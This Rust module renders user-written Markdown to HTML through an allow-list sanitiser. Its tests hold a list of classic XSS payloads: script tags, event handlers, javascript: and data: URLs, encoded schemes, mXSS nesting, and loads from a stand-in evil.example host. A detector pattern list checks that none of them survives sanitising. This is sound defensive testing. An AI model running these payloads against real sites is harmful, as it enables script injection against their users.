//! Creators write descriptions and lessons in Markdown; buyers see HTML. Everything rendered goes
//! through one allow-list sanitiser (ammonia): no scripts, no event handlers, no `style`, and
//! links only to http(s), mailto and tg, opened with `rel="noopener noreferrer nofollow"`.

use ammonia::Builder;
use pulldown_cmark::{html, Options, Parser};
use std::collections::HashSet;
use std::sync::OnceLock;

fn sanitiser() -> &'static Builder<'static> {
    static BUILDER: OnceLock<Builder<'static>> = OnceLock::new();
    BUILDER.get_or_init(|| {
        let mut builder = Builder::default();
        builder
            .url_schemes(HashSet::from(["http", "https", "mailto", "tg"]))
            .link_rel(Some("noopener noreferrer nofollow"))
            // Creators' images would load third-party trackers inside the Mini App.
            .rm_tags(["img"])
            .set_tag_attribute_value("a", "target", "_blank");
        builder
    })
}

/// Markdown to safe HTML. Raw HTML in the Markdown is parsed and sanitised like the rest.
pub fn render(markdown: &str) -> String {
    let options =
        Options::ENABLE_STRIKETHROUGH | Options::ENABLE_TABLES | Options::ENABLE_TASKLISTS;
    let mut unsafe_html = String::with_capacity(markdown.len() * 3 / 2);
    html::push_html(&mut unsafe_html, Parser::new_ext(markdown, options));
    sanitiser().clean(&unsafe_html).to_string()
}

#[cfg(test)]
mod tests {
    use super::render;

    /// Classic XSS payloads (OWASP's filter evasion cheat sheet and friends), as raw HTML and as
    /// Markdown constructs.
    const PAYLOADS: &[&str] = &[
        "<script>alert(1)</script>",
        "<SCRIPT SRC=https://evil.example/xss.js></SCRIPT>",
        "<img src=x onerror=alert(1)>",
        "<svg onload=alert(1)>",
        "<svg><script>alert(1)</script></svg>",
        "<body onload=alert(1)>",
        "<iframe src=\"javascript:alert(1)\"></iframe>",
        "<a href=\"javascript:alert(1)\">x</a>",
        "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
        "<a href=\"&#106;avascript:alert(1)\">x</a>",
        "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
        "<a href=\"vbscript:msgbox(1)\">x</a>",
        "[click](javascript:alert(1))",
        "[click](JAVASCRIPT:alert(1))",
        "[click](data:text/html,<script>alert(1)</script>)",
        "![x](javascript:alert(1))",
        "![x](https://tracker.example/p.gif \"onerror=alert(1)\")",
        "<div style=\"background:url(javascript:alert(1))\">x</div>",
        "<p onclick=\"alert(1)\">x</p>",
        "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
        "<object data=\"javascript:alert(1)\"></object>",
        "<embed src=\"javascript:alert(1)\">",
        "<form action=\"javascript:alert(1)\"><input type=submit></form>",
        "<meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<base href=\"javascript:alert(1)//\">",
        "<details open ontoggle=alert(1)>",
        "<video><source onerror=\"alert(1)\"></video>",
        "<a href=\"https://ok.example\" onmouseover=\"alert(1)\">x</a>",
        "<<script>script>alert(1)<</script>/script>",
        "<scr<script>ipt>alert(1)</scr</script>ipt>",
        "`<script>` is fine in code, <script>alert(1)</script> is not",
        "<template><script>alert(1)</script></template>",
        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
    ];

    /// Numeric character references decoded and tabs/newlines dropped, as a browser reads a URL.
    fn decoded(html: &str) -> String {
        let mut out = String::new();
        let mut rest = html;
        while let Some(at) = rest.find("&#") {
            out.push_str(&rest[..at]);
            let tail = &rest[at + 2..];
            let end = tail.find(';').unwrap_or(0);
            let (digits, radix) = match tail[..end].strip_prefix(['x', 'X']) {
                Some(hex) => (hex, 16),
                None => (&tail[..end], 10),
            };
            match u32::from_str_radix(digits, radix)
                .ok()
                .and_then(char::from_u32)
            {
                Some(c) if end > 0 => {
                    out.push(c);
                    rest = &tail[end + 1..];
                }
                _ => {
                    out.push_str("&#");
                    rest = tail;
                }
            }
        }
        out.push_str(rest);
        out.replace(['\t', '\n', '\r'], "")
    }

    fn dangerous(html: &str) -> Option<&'static str> {
        let lower = decoded(html).to_ascii_lowercase();
        let lower = lower.as_str();
        [
            "<script",
            "<iframe",
            "<svg",
            "<img",
            "<object",
            "<embed",
            "<form",
            "<meta",
            "<link",
            "<base",
            "<style",
            "<math",
            "<template",
            "javascript:",
            "vbscript:",
            "data:",
            " style=",
        ]
        .into_iter()
        .find(|needle| lower.contains(needle))
        .or_else(|| {
            // Any attribute named on… is an event handler.
            lower
                .split(|c: char| c.is_whitespace() || c == '/' || c == '<')
                .any(|word| word.starts_with("on") && word.contains('='))
                .then_some("an on… handler")
        })
    }

    #[test]
    fn no_payload_survives() {
        for payload in PAYLOADS {
            let html = render(payload);
            assert!(
                dangerous(&html).is_none(),
                "{payload:?} became {html:?} ({:?})",
                dangerous(&html)
            );
        }
    }

    #[test]
    fn the_detector_itself_catches_unsanitised_html() {
        // Guards the test above: the raw payloads must all look dangerous to it.
        for payload in PAYLOADS.iter().filter(|p| !p.starts_with(['[', '!', '`'])) {
            assert!(dangerous(payload).is_some(), "{payload}");
        }
    }

    #[test]
    fn ordinary_markdown_renders() {
        let html =
            render("# Title\n\nSome **bold** and [a link](https://example.org).\n\n- one\n- two");
        assert!(html.contains("<h1>Title</h1>"), "{html}");
        assert!(html.contains("<strong>bold</strong>"), "{html}");
        assert!(html.contains("<li>one</li>"), "{html}");
        assert!(html.contains("href=\"https://example.org\""), "{html}");
        assert!(
            html.contains("rel=\"noopener noreferrer nofollow\""),
            "{html}"
        );
        assert!(html.contains("target=\"_blank\""), "{html}");
    }

    #[test]
    fn code_shows_tags_as_text() {
        let html = render("`<script>`");
        assert_eq!(html.trim(), "<p><code>&lt;script&gt;</code></p>");
    }
}
